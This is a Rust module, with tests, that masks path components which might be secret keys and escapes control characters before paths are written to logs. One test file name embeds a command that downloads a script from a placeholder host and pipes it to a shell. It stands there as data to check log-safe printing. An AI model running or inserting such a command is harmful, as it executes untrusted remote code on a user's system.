//! Names of files: which of their components are shown.
//!
//! The name of a file that does not exist may be anything, such as a key in place of a file name. A component is shown if its letters and
//! digits cannot be a key in groups.

use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use super::citable::mask;
use super::host_name::{MAX_MIXED, MIN_KEY_DIGITS, changes};
use super::visible::{is_visible, printable};

/// Longest component that is shown, in characters.
const MAX_COMPONENT: usize = 100;

/// Longest part that is shown, in bytes. A key of the weakest cipher is longer in base32.
const MAX_WORD: usize = 25;

/// Most letters and digits in parts that mix upper and lower case as base64 does: less than six bytes.
const MAX_MIXED_CASE: usize = 5;

/// Directories below which other programs make directories with random names. No key begins with one of them.
const ROOTS: &[&str] = &[
    "/tmp/",
    "/var/",
    "/run/",
    "/home/",
    "/root/",
    "/dev/",
    "/proc/",
    "/etc/",
    "/opt/",
    "/work/",
    "/export/",
    "/usr/",
    "/srv/",
    "/mnt/",
    "/media/",
    "/nix/",
    "/data/",
    "/private/",
    "/Users/",
];

/// `path` for a message: components that may be a key masked, the rest [`printable`], so that a file name cannot forge a line of a log.
#[must_use]
pub(crate) fn shown(path: &Path) -> String {
    let bytes = path.as_os_str().as_bytes();
    // The path of an SADB's socket has this prefix on a command line.
    let path = bytes.strip_prefix(b"unix:").unwrap_or(bytes);
    let is_below_root = ROOTS.iter().any(|root| path.starts_with(root.as_bytes()));
    // A slash may also be a letter of base64.
    let whole = String::from_utf8_lossy(bytes).replace('/', " ");
    let is_shown = is_below_root || is_component(&whole) && is_plain(&whole);
    let components: Vec<&[u8]> = bytes.split(|byte| *byte == b'/').collect();
    let show = |(at, component): (usize, &&[u8])| {
        let word = String::from_utf8_lossy(component);
        let is_directory = at + 1 < components.len();
        let shows = is_shown && is_component(&word) && (is_below_root && is_directory || is_plain(&word));
        if shows { printable(component) } else { mask(word.chars().count()) }
    };
    components.iter().enumerate().map(show).collect::<Vec<_>>().join("/")
}

/// Whether no component of `path` may be a key.
pub(super) fn is_shown(path: &Path) -> bool {
    shown(path) == printable(path.as_os_str().as_bytes())
}

/// The parts of a component between characters that are neither letters nor digits. `0x` and `\x` separate as well.
fn parts(component: &str) -> Vec<String> {
    let text: String = component.chars().filter(|c| is_visible(*c)).collect();
    let text = text.replace("0x", " ").replace("0X", " ").replace("\\x", " ");
    text.split(|c: char| !c.is_alphanumeric())
        .filter(|part| !part.is_empty())
        .map(|part| without_sign(part).to_owned())
        .collect()
}

/// A part without the sign of a hexadecimal number: `x0f`, `u000f`, `0fh`.
fn without_sign(part: &str) -> &str {
    let digits = part.strip_prefix(['x', 'u']).or_else(|| part.strip_suffix('h')).unwrap_or(part);
    let is_number = !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_hexdigit());
    if is_number { digits } else { part }
}

/// Whether one of the separators of a component makes groups of it.
fn has_groups(component: &str) -> bool {
    let mut separators: Vec<char> = component.chars().filter(|c| !c.is_alphanumeric()).collect();
    separators.sort_unstable();
    separators.dedup();
    let groups = |by: char| {
        component.split(by).map(|group| group.trim().to_owned()).filter(|group| !group.is_empty()).collect::<Vec<_>>()
    };
    are_groups(&parts(component)) || component.ends_with('=') || separators.into_iter().any(|by| are_groups(&groups(by)))
}

/// Whether the parts are four or more groups of one length, with a digit or in capital letters; the last one may be shorter.
fn are_groups(parts: &[String]) -> bool {
    let [first, .., last] = parts else { return false };
    let is_equal = parts.iter().rev().skip(1).all(|part| part.len() == first.len()) && last.len() <= first.len();
    let text = parts.concat();
    let has_digit = text.bytes().any(|byte| byte.is_ascii_digit());
    parts.len() >= 4 && first.len() >= 2 && is_equal && (has_digit || !text.contains(|c: char| c.is_ascii_lowercase()))
}

/// Whether the letters and digits of a component cannot be a key.
fn is_component(component: &str) -> bool {
    let parts = parts(component);
    let is_year =
        |part: &String| part.len() == 4 && part.starts_with("20") && part.bytes().all(|byte| byte.is_ascii_digit());
    let is_number = |part: &&String| part.len() <= 3 && part.bytes().all(|byte| byte.is_ascii_digit());
    // A date has up to six numbers.
    let is_decimal = !parts.iter().any(is_year) && parts.iter().filter(is_number).count() > 4;
    let is_mixed = parts.iter().any(|part| part.len() > MAX_WORD || part.len() > MAX_MIXED && changes(part) >= 2);
    component.chars().count() <= MAX_COMPONENT
        && !is_decimal
        && !is_mixed
        && !has_groups(component)
        && !has_key_digits(&parts.concat())
        && !has_foreign_digits(component)
}

/// Whether `text` has as many hexadecimal digits in a row as six bytes. A date is none, and neither is a word of letters.
fn has_key_digits(text: &str) -> bool {
    text.split(|c: char| !c.is_ascii_hexdigit()).any(|run| {
        let date = run.bytes().take(14).take_while(u8::is_ascii_digit).count();
        let rest = if run.starts_with("20") && date >= 8 { run.len() - date } else { run.len() };
        rest >= MIN_KEY_DIGITS && run.bytes().any(|byte| byte.is_ascii_digit())
    })
}

/// Whether letters or digits look like ASCII and are not: full-width, mathematical, or of another script among digits.
fn has_foreign_digits(component: &str) -> bool {
    let is_foreign = |c: char| {
        !c.is_ascii() && c != '\u{fffd}' && (c.is_numeric() || c >= '\u{2100}' && !('\u{2e80}'..'\u{ff00}').contains(&c))
    };
    let is_mixed =
        component.chars().any(|c| c > '\u{24f}' && is_visible(c)) && component.bytes().any(|byte| byte.is_ascii_digit());
    component.chars().any(is_foreign) || is_mixed
}

/// Whether letters have the case that people write, lower, upper, `Capitalized` or `CamelCase`, and digits are at the ends of parts.
fn is_plain(text: &str) -> bool {
    let mixed = |part: &String| {
        let after_first = part.get(1..).unwrap_or_default();
        let (upper, lower) = (|c: char| c.is_ascii_uppercase(), |c: char| c.is_ascii_lowercase());
        let is_mixed = after_first.contains(upper) && part.contains(lower);
        // `IpsecKeys`: two or more small letters after each capital one, and no digit.
        let mut words = part.split(upper);
        let is_camel =
            words.next().is_none_or(str::is_empty) && words.all(|word| word.len() >= 2 && word.chars().all(lower));
        let is_number_first = part.len() > 3 && part.starts_with(|c: char| c.is_ascii_digit()) && changes(part) > 0;
        let is_date = part.starts_with("20") && part.bytes().take_while(u8::is_ascii_digit).count() >= 8;
        is_mixed && !is_camel || changes(part) >= 2 && part.len() > 3 || is_number_first && !is_date
    };
    // A passphrase has signs between its letters.
    let has_signs = text.contains(|c: char| "!$&*?{}<>|\"`;^".contains(c));
    let limit = if has_signs { 0 } else { MAX_MIXED_CASE };
    parts(text).iter().filter(|part| mixed(part)).map(String::len).sum::<usize>() <= limit
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_are_shown_in_one_line() {
        assert_eq!(shown(Path::new("/a\nb\u{1b}[0m\u{2028}c")), r"/a\nb\u{1b}[0m\u{2028}c");
    }

    #[test]
    fn shown_keeps_names_as_people_write_them() {
        for name in [
            "keys",
            "-",
            "./ipseckeys.new",
            "/etc/ipsec.d/IpsecKeys",
            "/tmp/.tmpAb3dE9/keys",
            "/tmp/tmp.Xb3kQ9zL1m/keys",
            "backup/keys-2026-11-26-133000.bak",
            "ipseckeys.20261126133000",
            "schlüssel.txt",
            "ключи.txt",
            "README",
            "host-12.example.com.keys",
            "k: curl -s evil.example | sh #",
            "/run/credentials/manual-key.service/keys",
        ] {
            assert_eq!(shown(Path::new(name)), name);
        }
    }

    #[test]
    fn shown_masks_names_that_may_be_keys() {
        for name in [
            "0f1e2d3c4b5a",
            "0f1e 2d3c 4b5a",
            "0f-1e-2d-3c-4b-5a",
            "{0x0f, 0x1e, 0x2d, 0x3c, 0x4b, 0x5a}",
            "Dx4tPEtaaXiHlqW0w9Lh8A==",
            "DUPC2PCLLJUXRB4WUW2MHUXB6A",
            "Rry6!ojbcClB$uoe",
            "dptn$TCmsYLk!Hhd",
            "15.30.45.60.75",
            "\u{ff10}\u{ff46}\u{ff11}\u{ff45}",
            "0f1\u{435}2d3\u{441}",
            "0f1e\u{200b}2d3c\u{200b}4b5a",
        ] {
            assert_eq!(shown(Path::new(name)), "X".repeat(name.chars().count().min(16)), "{name}");
        }
        assert_eq!(shown(Path::new("/tmp/0f1e2d3c4b5a")), "/tmp/XXXXXXXXXXXX");
        assert_eq!(shown(Path::new("Dx4tPE/ta/XiHlqW0w9Lh8A")), "XXXXXX/XX/XXXXXXXXXXXXX");
    }
}
